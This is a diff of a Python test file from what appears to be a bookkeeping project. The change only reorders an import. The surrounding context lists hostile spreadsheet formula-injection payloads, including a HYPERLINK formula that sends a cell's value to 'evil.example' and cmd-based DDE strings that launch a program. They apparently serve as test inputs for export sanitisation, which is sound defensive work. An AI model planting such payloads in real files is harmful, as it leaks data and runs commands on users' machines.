@@ -8,11 +8,11 @@ from datetime import date
 
 import pytest
 from openpyxl import load_workbook
-from tools import lint
 
 from huikuan.books.customers import actions as customers
 from huikuan.kit import cells
 from huikuan.office.trail.hands import collect
+from tools import lint
 
 HOSTILE = (
     '=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
